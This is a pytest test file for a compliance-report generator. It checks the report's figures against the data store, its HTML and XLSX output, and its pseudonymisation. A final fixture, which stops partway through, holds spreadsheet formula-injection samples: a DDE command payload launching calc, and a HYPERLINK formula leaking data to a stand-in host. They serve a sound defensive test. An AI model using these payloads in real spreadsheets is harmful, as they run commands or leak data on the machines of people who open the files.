"""Specification of the Inspektorat's compliance report from Python (``sopmine.build_report``).

Every figure of the report is worked out again here, by hand, from the store
(``sopmine.read_verdicts(...).select(...)`` and the store's own tables) and from the
dashboard's functions: the summary against both periods, the steps table, the deviation
types, the dossiers, the sources and their rejected rows. Then the HTML and XLSX as written
(self-contained, one frozen sheet per table, typed cells, no formula), the pseudonyms, and
cells that a spreadsheet would run as formulas. The PDF and the command line are specified
in ``test_cli_report.py``, on the same store.
"""

from __future__ import annotations

import dataclasses
import datetime as dt
import functools
import hashlib
import io
import json
import re
from pathlib import Path
from typing import Any

import duckdb
import numpy as np
import pandas as pd
import pytest
from openpyxl import load_workbook
from report_helpers import (
    APRIL,
    DAIRI,
    FORMULA_START,
    GENERATED_AT,
    KARIMUN,
    LATER,
    MAY,
    OTHER_SALT,
    SALT,
    WEEK,
    noncompliant_ids,
    pseudonym,
    report_store,
    sample_file,
    start_cli_runs,
    survivors,
    xlsx_xml,
)

import sopmine
from sopmine.check import DEVIATION_TYPES
from sopmine.errors import SopmineError
from sopmine.report import ReportData, compose_report, neutralize

MEASURES = (
    "m_cases", "m_closed", "m_rejected", "m_open", "m_at_risk", "m_conformant",
    "m_service_on_time", "m_step_on_time", "m_median_days", "m_p90_days", "m_fitness",
    "m_deviations", "m_noncompliant",
)  # fmt: skip


@pytest.fixture(scope="session")
def db(tmp_path_factory: pytest.TempPathFactory) -> Path:
    return report_store(tmp_path_factory)


@pytest.fixture(scope="module", autouse=True)
def _cli_runs_meanwhile(
    request: pytest.FixtureRequest, db: Path, tmp_path_factory: pytest.TempPathFactory
) -> None:
    """When the command-line tests run in this session too, their subprocesses start now and
    run beside these tests (the two files together stay well under a minute)."""
    if any(item.path.name == "test_cli_report.py" for item in request.session.items):
        start_cli_runs(db, tmp_path_factory)


@pytest.fixture(scope="module")
def karimun(db: Path) -> sopmine.Report:
    """Karimun, May 2025, in Bahasa Indonesia."""
    return sopmine.build_report(db, sop=KARIMUN, period_from=MAY[0], period_to=MAY[1],
                                generated_at=GENERATED_AT)  # fmt: skip


@pytest.fixture(scope="module")
def dairi_april(db: Path) -> sopmine.Report:
    """Dairi, 1 to 14 April 2025: its first weeks, so no previous period."""
    return sopmine.build_report(db, sop=DAIRI, period_from=APRIL[0], period_to=APRIL[1],
                                generated_at=GENERATED_AT)  # fmt: skip


@pytest.fixture(scope="module")
def reports(karimun: sopmine.Report, dairi_april: sopmine.Report) -> dict[str, sopmine.Report]:
    return {KARIMUN: karimun, DAIRI: dairi_april}


PERIODS = {KARIMUN: MAY, DAIRI: APRIL}
#: The previous period of equal length: May has 31 days, so 31 March - 30 April.
PREVIOUS = {KARIMUN: ("2025-03-31", "2025-04-30"), DAIRI: ("2025-03-18", "2025-03-31")}


@functools.cache
def stored(db: Path, sop: str) -> sopmine.Verdicts:
    return sopmine.read_verdicts(db, sop=sop)


def selection(db: Path, sop: str, period: tuple[str, str]) -> sopmine.Verdicts:
    """The verdicts of the applications of ``sop`` that arrived in ``period``."""
    return stored(db, sop).select(period_from=period[0], period_to=period[1])


def query(db: Path, sql: str, params: list[Any]) -> pd.DataFrame:
    """The rows of ``sql`` on the store, read with DuckDB itself (read-only)."""
    with duckdb.connect(str(db), read_only=True) as con:
        cursor = con.execute(sql, params)
        names = [c[0] for c in cursor.description]
        return pd.DataFrame(cursor.fetchall(), columns=names)


def by_hand(verdicts: sopmine.Verdicts, sop: str) -> dict[str, float]:
    """The summary's measures, worked out from the verdict tables alone."""
    cases, steps = verdicts.cases, verdicts.steps
    status = cases["status"].astype(str)
    finished = status.isin(["closed", "rejected"])
    breach = cases["service_breach"].astype("boolean").fillna(False).astype(bool)
    timed = finished & cases["service_target_minutes"].notna()
    at_risk = cases["at_risk"].astype("boolean").fillna(False).astype(bool)
    days = cases.loc[finished, "service_elapsed_minutes"].astype(float) / float(
        verdicts.models[sop].calendar.minutes_per_day
    )
    step_breach = steps.loc[steps["elapsed_minutes"].notna(), "breach"].astype(bool)
    return {
        "m_cases": len(cases),
        "m_closed": int((status == "closed").sum()),
        "m_rejected": int((status == "rejected").sum()),
        "m_open": int((status == "open").sum()),
        "m_at_risk": int((at_risk & (status == "open")).sum()),
        "m_conformant": 100.0 * cases["conformant"].astype(bool).mean(),
        "m_service_on_time": 100.0 * (timed & ~breach).sum() / timed.sum(),
        "m_step_on_time": 100.0 * (1.0 - step_breach.mean()),
        "m_median_days": float(np.median(days)),
        "m_p90_days": float(np.quantile(days, 0.9)),
        "m_fitness": float(cases["fitness"].astype(float).mean()),
        "m_deviations": len(verdicts.deviations),
        "m_noncompliant": len(noncompliant_ids(cases)),
    }


def column(report: sopmine.Report, name: str) -> dict[str, object]:
    summary = report.tables["summary"]
    return dict(zip(summary["key"], summary[name], strict=True))


def empty(value: object) -> bool:
    return value is None or (isinstance(value, float) and np.isnan(value))


# --- the numbers match the store ----------------------------------------------------------


def test_the_summary_lists_the_measures_in_order(karimun: sopmine.Report) -> None:
    summary = karimun.tables["summary"]
    assert list(summary.columns) == ["key", "measure", "current", "previous", "change"]
    assert list(summary["key"]) == list(MEASURES)
    assert summary["measure"].iloc[0] == "Permohonan masuk"


@pytest.mark.parametrize("sop", [KARIMUN, DAIRI])
def test_current_figures_are_those_of_the_store(
    reports: dict[str, sopmine.Report], db: Path, sop: str
) -> None:
    expected = by_hand(selection(db, sop, PERIODS[sop]), sop)
    assert column(reports[sop], "current") == pytest.approx(expected, rel=1e-12)


def test_karimun_may_in_figures(karimun: sopmine.Report) -> None:
    """The month's applications by status, as the sample log's ground truth has them
    (``sample_logs/004_karimun_sicantik.truth/cases.parquet``, arrivals in May)."""
    now = column(karimun, "current")
    assert [now[k] for k in ("m_cases", "m_closed", "m_rejected", "m_open")] == [67, 65, 2, 0]
    assert now["m_cases"] == now["m_closed"] + now["m_rejected"] + now["m_open"]


def test_previous_figures_are_those_of_the_period_before_of_equal_length(
    karimun: sopmine.Report, db: Path
) -> None:
    expected = by_hand(selection(db, KARIMUN, PREVIOUS[KARIMUN]), KARIMUN)
    before, now = column(karimun, "previous"), column(karimun, "current")
    assert before == pytest.approx(expected, rel=1e-12)
    change = column(karimun, "change")
    assert change == pytest.approx({k: now[k] - expected[k] for k in MEASURES}, rel=1e-9)  # type: ignore[operator]
    cover = dict(karimun.tables["cover"].itertuples(index=False))
    assert cover["Periode (tanggal permohonan masuk)"] == "1 Mei 2025 – 31 Mei 2025"
    assert cover["Periode pembanding"] == "31 Maret 2025 – 30 April 2025"


def test_without_a_previous_period_nothing_is_compared(
    dairi_april: sopmine.Report, db: Path
) -> None:
    assert len(selection(db, DAIRI, PREVIOUS[DAIRI]).cases) == 0
    assert all(empty(v) for v in column(dairi_april, "previous").values())
    assert all(empty(v) for v in column(dairi_april, "change").values())
    assert dairi_april.tables["deviation_types"]["previous_cases"].map(empty).all()


@pytest.mark.parametrize("sop", [KARIMUN, DAIRI])
def test_the_summary_is_the_dashboards(
    reports: dict[str, sopmine.Report], db: Path, sop: str
) -> None:
    """The dashboard's Ringkasan shows ``summarize_kpis``: the report says the same."""
    kpis = sopmine.summarize_kpis(selection(db, sop, PERIODS[sop])).iloc[0]
    dashboard = {
        "m_cases": kpis["cases"], "m_open": kpis["open"], "m_at_risk": kpis["at_risk"],
        "m_conformant": kpis["conformant_pct"], "m_service_on_time": kpis["on_time_pct"],
        "m_step_on_time": 100.0 - kpis["step_breach_pct"],
        "m_median_days": kpis["median_service_days"], "m_p90_days": kpis["p90_service_days"],
        "m_deviations": kpis["deviations"],
    }  # fmt: skip
    now = column(reports[sop], "current")
    assert {k: now[k] for k in dashboard} == pytest.approx(dashboard, rel=1e-12)


@pytest.mark.parametrize("sop", [KARIMUN, DAIRI])
def test_the_steps_table_is_analyze_steps_of_the_period(
    reports: dict[str, sopmine.Report], db: Path, sop: str
) -> None:
    verdicts = selection(db, sop, PERIODS[sop])
    model = verdicts.models[sop]
    stats = sopmine.analyze_steps(verdicts)
    expected = pd.DataFrame({
        "step": [f"{n}. {s}" for n, s in zip(stats["step_number"], stats["step_name"],
                                              strict=True)],
        "actor_name": stats["actor_name"],
        "waktu": [str(model.step(s).waktu) for s in stats["step_id"]],
        "volume": stats["volume"], "timed": stats["timed"],
        "elapsed_median_minutes": stats["elapsed_median_minutes"],
        "elapsed_p90_minutes": stats["elapsed_p90_minutes"],
        "breaches": stats["breaches"], "on_time": 100.0 - stats["breach_pct"],
        "over_target_days": stats["over_target_days"],
    })  # fmt: skip
    table = reports[sop].tables["steps"]
    assert len(table) == len(model.steps)
    pd.testing.assert_frame_equal(table.reset_index(drop=True), expected, check_dtype=False)


def test_the_steps_of_karimun_in_may(karimun: sopmine.Report) -> None:
    steps = karimun.tables["steps"]
    first = steps.iloc[0]
    assert (first["step"], first["waktu"], first["volume"], first["timed"]) == (
        "1. Akses formulir surat permohonan", "5 Menit", 67, 0,
    )  # fmt: skip
    assert empty(first["on_time"])  # a case's first step has no handover: never timed


def test_the_bottlenecks_are_rank_bottlenecks_over_target(
    karimun: sopmine.Report, db: Path
) -> None:
    ranked = sopmine.rank_bottlenecks(selection(db, KARIMUN, MAY), top=3)
    ranked = ranked[ranked["over_target_minutes"] > 0]
    table = karimun.tables["bottlenecks"]
    assert list(table["rank"]) == [1, 2, 3]
    assert list(table["step"]) == [f"{n}. {s}" for n, s in zip(
        ranked["step_number"], ranked["step_name"], strict=True)]  # fmt: skip
    assert list(table["breaches"]) == list(ranked["breaches"])
    assert list(table["share"]) == pytest.approx(list(ranked["over_target_share"]))
    assert table["step"].iloc[0] == "9. Penetapan dan TTE Kepala Dinas"


def type_of(meaning: str) -> str:
    """The deviation type a row's meaning describes (the meanings are distinct)."""
    text = meaning.removesuffix(".")
    return next(k for k, (id_text, _) in DEVIATION_TYPES.items()
                if id_text[0].upper() + id_text[1:] == text)  # fmt: skip


def counts(verdicts: sopmine.Verdicts) -> dict[str, tuple[int, int]]:
    """Per deviation type: distinct cases, findings."""
    found = verdicts.deviations.assign(type=verdicts.deviations["type"].astype(str))
    grouped = found.groupby("type")["case_id"]
    return {str(k): (int(v.astype(str).nunique()), len(v)) for k, v in grouped}


@pytest.mark.parametrize("sop", [KARIMUN, DAIRI])
def test_deviation_types_are_counted_from_the_deviations_table(
    reports: dict[str, sopmine.Report], db: Path, sop: str
) -> None:
    now = counts(selection(db, sop, PERIODS[sop]))
    table = reports[sop].tables["deviation_types"]
    shown = {
        type_of(m): (c, f) for m, c, f in zip(table["meaning"], table["cases"], table["findings"],
                                              strict=True)
    }  # fmt: skip
    assert shown == now
    assert list(table["cases"]) == sorted(table["cases"], reverse=True)
    n_cases = len(selection(db, sop, PERIODS[sop]).cases)
    assert list(table["share"]) == pytest.approx([100.0 * c / n_cases for c in table["cases"]])


def test_deviation_types_of_the_previous_period(karimun: sopmine.Report, db: Path) -> None:
    before = counts(selection(db, KARIMUN, PREVIOUS[KARIMUN]))
    table = karimun.tables["deviation_types"]
    shown = dict(zip(table["meaning"].map(type_of), table["previous_cases"], strict=True))
    assert shown == {k: before.get(k, (0, 0))[0] for k in shown}
    # a type found only in the previous period still has its row, with 0 cases now
    assert set(shown) == set(before) | set(counts(selection(db, KARIMUN, MAY)))


@pytest.mark.parametrize("sop", [KARIMUN, DAIRI])
def test_one_table_per_deviation_type_with_every_finding(
    reports: dict[str, sopmine.Report], db: Path, sop: str
) -> None:
    verdicts = selection(db, sop, PERIODS[sop])
    now = counts(verdicts)
    tables = reports[sop].tables
    assert {k for k in tables if k.startswith("dev_")} == {f"dev_{k}" for k in now}
    for kind, (n_cases, findings) in now.items():
        rows = tables[f"dev_{kind}"]
        assert len(rows) == findings, kind
        assert rows["case_id"].nunique() == n_cases, kind
    found = verdicts.deviations
    expected = sorted(f"{f}:{r}" for f, r in zip(found["source_file"], found["source_row"],
                                                  strict=True) if pd.notna(r))  # fmt: skip
    shown = sorted(s for k in now for s in tables[f"dev_{k}"]["source"] if s != "—")
    assert shown == expected  # every finding points at its row of the export


def test_service_breach_rows_give_the_working_time_late(karimun: sopmine.Report, db: Path) -> None:
    cases = selection(db, KARIMUN, MAY).cases.set_index("case_id")
    rows = karimun.tables["dev_service_sla_breach"]
    assert len(rows) == 2
    for case_id, late in zip(rows["case_id"], rows["late_minutes"], strict=True):
        case = cases.loc[case_id]
        assert late == pytest.approx(
            case["service_elapsed_minutes"] - case["service_target_minutes"]
        )
        assert late > 0
    assert list(rows["late_days"]) == pytest.approx([v / 480 for v in rows["late_minutes"]])


@pytest.mark.parametrize("sop", [KARIMUN, DAIRI])
def test_one_dossier_per_noncompliant_case(
    reports: dict[str, sopmine.Report], db: Path, sop: str
) -> None:
    cases = selection(db, sop, PERIODS[sop]).cases
    expected = noncompliant_ids(cases)
    report = reports[sop]
    dossiers = [s.key.removeprefix("case:") for s in report.sections if s.key.startswith("case:")]
    assert dossiers == expected  # in case-number order
    assert sorted(report.tables["dossier_timeline"]["case_id"].unique()) == expected
    assert sorted(report.tables["dossier_findings"]["case_id"].unique()) == expected
    assert column(report, "current")["m_noncompliant"] == len(expected)


def test_a_dossier_tells_the_case_against_its_events(karimun: sopmine.Report, db: Path) -> None:
    """Each dossier's timeline holds the case's completed steps, in order, with who did them."""
    verdicts = selection(db, KARIMUN, MAY)
    timeline = karimun.tables["dossier_timeline"]
    for case_id, rows in timeline.groupby("case_id", sort=False):
        steps = verdicts.steps[verdicts.steps["case_id"].astype(str) == case_id]
        done = steps[steps["completed_at"].notna()].sort_values("completed_at", kind="stable")
        assert list(rows["order"]) == list(range(1, len(rows) + 1))
        assert sorted(rows["resource"].dropna()) == sorted(done["resource"].dropna().astype(str))


def latest_run(db: Path, sop: str) -> pd.Series:
    runs = query(db, "SELECT * FROM check_runs WHERE sop_id = ? ORDER BY run_id", [sop])
    return runs.iloc[-1]


def checked_sources(db: Path, sop: str) -> pd.DataFrame:
    """The store's ``sources`` rows of the latest check run of ``sop``."""
    ids = [int(s["source_id"]) for s in json.loads(latest_run(db, sop)["sources"])]
    return query(db, "SELECT * FROM sources WHERE source_id IN (SELECT unnest(?)) "
                 "ORDER BY source_id", [ids])  # fmt: skip


@pytest.mark.parametrize("sop", [KARIMUN, DAIRI])
def test_sources_are_the_checked_files_with_their_sha256(
    reports: dict[str, sopmine.Report], db: Path, sop: str
) -> None:
    stored = checked_sources(db, sop)
    table = reports[sop].tables["sources"]
    assert list(table["file_name"]) == list(stored["file_name"]) == [sample_file(sop).name]
    assert (
        list(table["sha256"])
        == list(stored["sha256"])
        == [hashlib.sha256(sample_file(sop).read_bytes()).hexdigest()]
    )
    for name in ("profile", "rows_read", "rows_loaded", "rows_rejected"):
        assert list(table[name]) == list(stored[name]), name


def test_the_cover_names_the_run_and_the_model(karimun: sopmine.Report, db: Path) -> None:
    cover = dict(karimun.tables["cover"].itertuples(index=False))
    assert cover["Sidik model SOP (sha256)"] == latest_run(db, KARIMUN)["sop_hash"]
    assert cover["Kantor"] == (
        "Dinas Penanaman Modal dan Pelayanan Terpadu Satu Pintu Kabupaten Karimun"
    )
    assert cover["Judul SOP"] == "Prosedur Penerbitan Izin dengan Aplikasi SiCantik Cloud"
    assert cover["Keadaan data per"] == "30 Juni 2025 16.00 WIB"
    assert cover["Dibuat pada"] == "1 Juli 2025 16.00 WIB"  # 09:00 UTC
    assert cover["Identitas disamarkan"] == "tidak"
    assert cover["Perintah untuk membuat ulang"] == (
        f"sopmine report --sop {KARIMUN} --from {MAY[0]} --to {MAY[1]} --lang id "
        f"--generated-at {GENERATED_AT}"
    )


@pytest.mark.parametrize("sop", [KARIMUN, DAIRI])
def test_rejects_are_the_stored_rejects_of_the_checked_sources(
    reports: dict[str, sopmine.Report], db: Path, sop: str
) -> None:
    ids = list(checked_sources(db, sop)["source_id"])
    rows = query(db, "SELECT s.file_name, r.source_row, r.reason, r.field, r.message "
                 "FROM rejects r JOIN sources s USING (source_id) "
                 "WHERE r.source_id IN (SELECT unnest(?)) ORDER BY s.file_name, r.source_row",
                 [ids])  # fmt: skip
    tables = reports[sop].tables
    pd.testing.assert_frame_equal(tables["rejects"].reset_index(drop=True), rows, check_dtype=False)
    reasons = rows.groupby("reason").size()
    assert dict(zip(tables["reject_reasons"]["reason"], tables["reject_reasons"]["rows"],
                    strict=True)) == reasons.to_dict()  # fmt: skip
    assert sum(tables["sources"]["rows_rejected"]) == len(rows)


@pytest.mark.parametrize(
    ("kwargs", "message"),
    [
        ({"period_from": "2025-08-01", "period_to": "2025-08-31"},
         "no application of karimun_sicantik arrived between 2025-08-01 and 2025-08-31"),
        ({"period_from": "2025-05-31", "period_to": "2025-05-01"},
         "the period ends (2025-05-01) before it starts (2025-05-31); swap --from/--to"),
        ({"period_from": MAY[0], "period_to": MAY[1], "office": "Kabupaten Dairi"},
         "karimun_sicantik belongs to Dinas Penanaman Modal dan Pelayanan Terpadu Satu Pintu "
         "Kabupaten Karimun (Kabupaten Karimun), not 'Kabupaten Dairi'"),
    ],
)  # fmt: skip
def test_build_report_refuses_with_a_reason(db: Path, kwargs: dict[str, str], message: str) -> None:
    with pytest.raises(SopmineError) as caught:
        sopmine.build_report(db, sop=KARIMUN, generated_at=GENERATED_AT, **kwargs)  # type: ignore[arg-type]
    assert str(caught.value).startswith(message)


# --- HTML and XLSX ------------------------------------------------------------------------


@pytest.fixture(scope="module")
def html(karimun: sopmine.Report) -> str:
    return karimun.to_html()


@pytest.fixture(scope="module")
def xlsx(karimun: sopmine.Report) -> bytes:
    return karimun.to_xlsx()


def test_html_fetches_nothing(html: str) -> None:
    assert "<script" not in html.lower()
    assert "<link" not in html.lower()
    assert "@import" not in html
    assert re.findall(r"url\(", html) == []
    sources = re.findall(r"""\bsrc\s*=\s*["']?([^"' >]*)""", html)
    assert len(sources) >= 2  # the charts, as data
    assert all(s.startswith("data:image/svg+xml;base64,") for s in sources)
    assert all(h.startswith("#") for h in re.findall(r"""\bhref\s*=\s*["']([^"']*)""", html))


def test_html_names_the_sop_the_period_and_every_dossier(
    html: str, karimun: sopmine.Report, db: Path
) -> None:
    assert "<h1>Laporan Kepatuhan terhadap SOP</h1>" in html
    assert "Prosedur Penerbitan Izin dengan Aplikasi SiCantik Cloud" in html
    assert "1 Mei 2025 – 31 Mei 2025" in html
    for case_id in noncompliant_ids(selection(db, KARIMUN, MAY).cases):
        assert f"<h3>Nomor permohonan {case_id}</h3>" in html


def test_html_writes_numbers_the_indonesian_way(html: str, karimun: sopmine.Report) -> None:
    now = column(karimun, "current")
    conformant = f"{now['m_conformant']:.1f}".replace(".", ",") + "%"
    assert conformant == "88,1%"
    assert f'<td class="num">{conformant}</td>' in html
    assert "<h2>Ringkasan</h2>" in html


SHEETS_ID = {
    "cover": "Identitas", "sources": "Sumber data", "summary": "Ringkasan",
    "deviation_types": "Jenis penyimpangan", "bottlenecks": "Hambatan", "steps": "Langkah",
    "definitions": "Definisi", "reject_reasons": "Penolakan per alasan",
    "rejects": "Baris ditolak", "dossier_findings": "Lampiran - temuan",
    "dossier_timeline": "Lampiran - jejak",
}  # fmt: skip


def test_xlsx_has_one_frozen_sheet_per_table(xlsx: bytes, karimun: sopmine.Report) -> None:
    book = load_workbook(io.BytesIO(xlsx))
    types = karimun.tables["deviation_types"]
    labels = {f"dev_{type_of(m)}": label for label, m in zip(types["label"], types["meaning"],
                                                              strict=True)}  # fmt: skip
    assert labels["dev_step_sla_breach"] == "Langkah melewati Waktu"
    assert book.sheetnames == [SHEETS_ID.get(k) or labels[k] for k in karimun.tables]
    assert set(SHEETS_ID.values()) <= set(book.sheetnames)
    for sheet, (key, frame) in zip(book.worksheets, karimun.tables.items(), strict=True):
        assert sheet.freeze_panes == "A2", sheet.title
        assert sheet.max_row == len(frame) + 1, key
        assert sheet.max_column == len(frame.columns), key


def test_xlsx_headers_and_typed_values(xlsx: bytes, karimun: sopmine.Report) -> None:
    book = load_workbook(io.BytesIO(xlsx))
    summary = book["Ringkasan"]
    assert [c.value for c in summary[1]] == ["kode", "Ukuran", "Periode ini",
                                             "Periode sebelumnya", "Perubahan"]  # fmt: skip
    assert [c.value for c in summary["A"][1:]] == list(MEASURES)
    figures = [[c.value for c in row[2:]] for row in summary.iter_rows(min_row=2)]
    assert all(isinstance(v, int | float) for row in figures for v in row)
    expected = karimun.tables["summary"]
    assert [r[0] for r in figures] == pytest.approx(list(expected["current"]))
    assert [r[2] for r in figures] == pytest.approx(list(expected["change"]))
    steps = book["Langkah"]
    labels = [c.value for c in steps[1]]
    assert labels[:5] == ["Langkah", "Pelaksana SOP", "Waktu SOP", "Dikerjakan", "Terukur"]
    assert labels[8] == "Tepat waktu (%)"
    volumes = [row[3].value for row in steps.iter_rows(min_row=2)]
    assert volumes == list(karimun.tables["steps"]["volume"])
    assert all(type(v) is int for v in volumes)
    sources = book["Sumber data"]
    assert [c.value for c in sources[1]][:3] == ["Berkas", "Profil", "sha256"]
    assert isinstance(sources["D2"].value, int)
    assert isinstance(sources["G2"].value, dt.datetime)


def test_xlsx_instants_are_office_time(xlsx: bytes, karimun: sopmine.Report, db: Path) -> None:
    """Dates in the workbook are the office's wall-clock time (WIB), as printed."""
    book = load_workbook(io.BytesIO(xlsx))
    sheet = book["Lampiran - jejak"]
    labels = [c.value for c in sheet[1]]
    assert labels[6] == "Selesai (WIB)"
    first = karimun.tables["dossier_timeline"].iloc[0]
    steps = selection(db, KARIMUN, MAY).steps
    mine = steps[steps["case_id"].astype(str) == first["case_id"]]
    completed = mine["completed_at"].dropna().min()
    assert sheet["G2"].value == completed.tz_convert("Asia/Jakarta").tz_localize(None)
    assert sheet["A2"].value == first["case_id"]


def test_xlsx_has_no_formula(xlsx: bytes) -> None:
    book = load_workbook(io.BytesIO(xlsx))
    kinds = {c.data_type for s in book.worksheets for row in s.iter_rows() for c in row}
    assert "f" not in kinds
    parts = xlsx_xml(xlsx)
    assert not any("<f>" in text or "<f " in text for text in parts.values())


def test_write_report_picks_the_format_from_the_suffix(
    karimun: sopmine.Report, html: str, xlsx: bytes, tmp_path: Path
) -> None:
    assert sopmine.write_report(karimun, tmp_path / "laporan.HTM").read_text("utf-8") == html
    assert sopmine.write_report(karimun, tmp_path / "laporan.xlsx").read_bytes() == xlsx
    written = sopmine.write_report(karimun, tmp_path / "laporan.bin", fmt="html")
    assert written.read_text("utf-8") == html
    with pytest.raises(SopmineError, match=r"name it \.pdf, \.html or \.xlsx"):
        sopmine.write_report(karimun, tmp_path / "laporan.txt")
    with pytest.raises(SopmineError, match=r"the folder .*tidak_ada does not exist"):
        sopmine.write_report(karimun, tmp_path / "tidak_ada" / "laporan.html")
    assert sorted(p.name for p in tmp_path.iterdir()) == [
        "laporan.HTM", "laporan.bin", "laporan.xlsx",
    ]  # fmt: skip


def test_another_generation_time_gives_another_report(db: Path, html: str, xlsx: bytes) -> None:
    later = sopmine.build_report(db, sop=KARIMUN, period_from=MAY[0], period_to=MAY[1],
                                 generated_at=LATER)  # fmt: skip
    text = later.to_html()
    assert "1 Juli 2025 16.00 WIB" in html
    assert "1 Juli 2025 16.00 WIB" not in text
    assert "2 Juli 2025 17.30 WIB" in text  # 10:30 UTC
    assert f"--generated-at {LATER}" in text
    assert text.replace("2 Juli 2025 17.30", "1 Juli 2025 16.00").replace(
        LATER, GENERATED_AT) == html  # fmt: skip
    data = later.to_xlsx()
    assert data != xlsx
    assert "2025-07-02T10:30:00Z" in xlsx_xml(data)["docProps/core.xml"]
    assert "2025-07-01T09:00:00Z" in xlsx_xml(xlsx)["docProps/core.xml"]


def test_a_change_too_small_to_show_is_not_negative_zero(html: str) -> None:
    assert re.findall(r'<td class="num">[-+]0,0+( poin)?</td>', html) == []


def test_a_generation_time_without_zone_is_office_time(db: Path) -> None:
    """DOMAIN rule 5: a time written without a zone is the office's local time."""
    report = sopmine.build_report(db, sop=KARIMUN, period_from=WEEK[0], period_to=WEEK[1],
                                  generated_at="2025-07-01 16:00")  # fmt: skip
    cover = dict(report.tables["cover"].itertuples(index=False))
    assert cover["Dibuat pada"] == "1 Juli 2025 16.00 WIB"


# --- pseudonyms -----------------------------------------------------------------------------


@pytest.fixture(scope="module")
def salted(db: Path) -> dict[str, sopmine.Report]:
    """Karimun, 5 to 9 May 2025, pseudonymized with two salts: one given, one from
    ``SOPMINE_SALT``."""

    def build(salt: str | None) -> sopmine.Report:
        return sopmine.build_report(
            db, sop=KARIMUN, period_from=WEEK[0], period_to=WEEK[1], pseudonymize=True,
            salt=salt, generated_at=GENERATED_AT,
        )  # fmt: skip

    with pytest.MonkeyPatch.context() as patch:
        patch.setenv("SOPMINE_SALT", OTHER_SALT)
        return {SALT: build(SALT), OTHER_SALT: build(None)}


def test_a_given_or_environment_salt_leaves_no_file(
    salted: dict[str, sopmine.Report], db: Path
) -> None:
    assert sorted(p.name for p in db.parent.iterdir() if p.name.endswith(".salt")) == []


def table_texts(report: sopmine.Report) -> list[str]:
    return [str(v) for frame in report.tables.values() for col in frame for v in frame[col]]


def test_pseudonyms_are_the_salted_hashes(salted: dict[str, sopmine.Report], db: Path) -> None:
    verdicts = selection(db, KARIMUN, WEEK)
    chosen = noncompliant_ids(verdicts.cases)
    people = set(verdicts.steps["resource"].dropna().astype(str))
    for salt, report in salted.items():
        tables = report.tables
        expected = sorted(pseudonym(c, salt, "K") for c in chosen)
        assert sorted(tables["dossier_timeline"]["case_id"].unique()) == expected
        dossiers = [s.title for s in report.sections if s.key.startswith("case:")]
        assert dossiers == [f"Nomor permohonan {k}" for k in expected]
        shown = set(tables["dossier_timeline"]["resource"].dropna())
        assert shown
        assert shown <= {pseudonym(p, salt, "P") for p in people}
        found = tables["dev_step_sla_breach"]
        assert set(found["case_id"]) <= {pseudonym(c, salt, "K") for c in verdicts.cases["case_id"]}
    first, second = (set(r.tables["dossier_timeline"]["case_id"]) for r in salted.values())
    assert first.isdisjoint(second)


def test_pseudonymized_tables_keep_no_identifier(
    salted: dict[str, sopmine.Report], db: Path
) -> None:
    verdicts = stored(db, KARIMUN)
    identifiers = set(verdicts.cases["case_id"].astype(str)) | set(
        verdicts.steps["resource"].dropna().astype(str)
    )
    for report in salted.values():
        assert survivors(identifiers, *table_texts(report)) == []
        assert list(report.tables["rejects"].columns) == [
            "file_name", "source_row", "reason", "field", "meaning",
        ]  # fmt: skip
        cover = dict(report.tables["cover"].itertuples(index=False))
        assert cover["Identitas disamarkan"] == "ya"
        assert "--pseudonymize" in cover["Perintah untuk membuat ulang"]
        assert SALT not in cover["Perintah untuk membuat ulang"]


def test_pseudonymized_figures_are_the_plain_ones(
    salted: dict[str, sopmine.Report], db: Path
) -> None:
    plain = by_hand(selection(db, KARIMUN, WEEK), KARIMUN)
    for report in salted.values():
        assert column(report, "current") == pytest.approx(plain, rel=1e-12)


def test_without_a_salt_a_secret_file_is_made_beside_the_store_and_kept(
    db: Path, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.delenv("SOPMINE_SALT", raising=False)
    copy = tmp_path / "copy.duckdb"
    copy.write_bytes(db.read_bytes())
    keep = tmp_path / "copy.duckdb.salt"
    chosen = noncompliant_ids(selection(db, KARIMUN, WEEK).cases)

    def dossiers() -> list[str]:
        report = sopmine.build_report(copy, sop=KARIMUN, period_from=WEEK[0],
                                      period_to=WEEK[1], pseudonymize=True)  # fmt: skip
        return sorted(report.tables["dossier_timeline"]["case_id"].unique())

    first = dossiers()
    secret = keep.read_text("utf-8")
    assert re.fullmatch(r"[0-9a-f]{64}\n", secret)
    assert keep.stat().st_mode & 0o777 == 0o600
    assert first == sorted(pseudonym(c, secret.strip(), "K") for c in chosen)
    assert dossiers() == first  # the file is read again, not replaced
    assert keep.read_text("utf-8") == secret
    assert sorted(p.name for p in tmp_path.iterdir()) == ["copy.duckdb", "copy.duckdb.salt"]


# --- cells a spreadsheet would run ----------------------------------------------------------

CRAFTED = {
    "=": '=HYPERLINK("http://example.invalid/?leak","klik")',
    "+": "+62 811 0000 1111",
    "-": "-2+3",
    "@": "@SUM(A1:A9)",
}


def crafted(name: str, i: int) -> str:
    """A person's name made to start like a formula: one of ``= + - @`` in turn."""
    start = "=+-@"[i % 4]
    return CRAFTED[start] if i < 4 else f"{start}{name}"


@pytest.fixture(scope="module")
def formulas(db: Path) -> tuple[sopmine.Report, set[str]]:
    """Karimun's week composed with every person, some roles, a source file name and the
    rejected rows' messages changed into text that a spreadsheet would run."""
    verdicts = selection(db, KARIMUN, WEEK)
    told = verdicts.steps[verdicts.steps["case_id"].isin(noncompliant_ids(verdicts.cases))]
    people = sorted(told["resource"].dropna().astype(str).unique())  # each has a dossier row
    names = {p: crafted(p, i) for i, p in enumerate(people)}

    def renamed(frame: pd.DataFrame) -> pd.DataFrame:
        out = frame.copy()
        out["resource"] = out["resource"].cat.rename_categories(
            {c: names.get(str(c), str(c)) for c in out["resource"].cat.categories}
        )
        out["role"] = out["role"].astype(object).map(lambda r: f"-{r}" if isinstance(r, str) else r)
        return out

    changed = dataclasses.replace(
        verdicts, steps=renamed(verdicts.steps), deviations=renamed(verdicts.deviations)
    )
    sources = checked_sources(db, KARIMUN).assign(file_name="=cmd|' /C calc'!A0")
    rejects = query(db, "SELECT s.file_name, r.* FROM rejects r JOIN sources s USING "
                    "(source_id) WHERE s.sop_id = ?", [KARIMUN])  # fmt: skip
    rejects = rejects.assign(message="\t=1+1", field="+field")
    report = compose_report(
        ReportData(verdicts=changed, previous=None, sources=sources, rejects=rejects,
                   run={"as_of": "2025-06-30 09:00:00"}),
        sop_id=KARIMUN, period_from=dt.date(2025, 5, 5), period_to=dt.date(2025, 5, 9),
        generated_at=pd.Timestamp(GENERATED_AT),
    )  # fmt: skip
    dangerous = {*names.values(), "=cmd|' /C calc'!A0", "\t=1+1", "+field"}
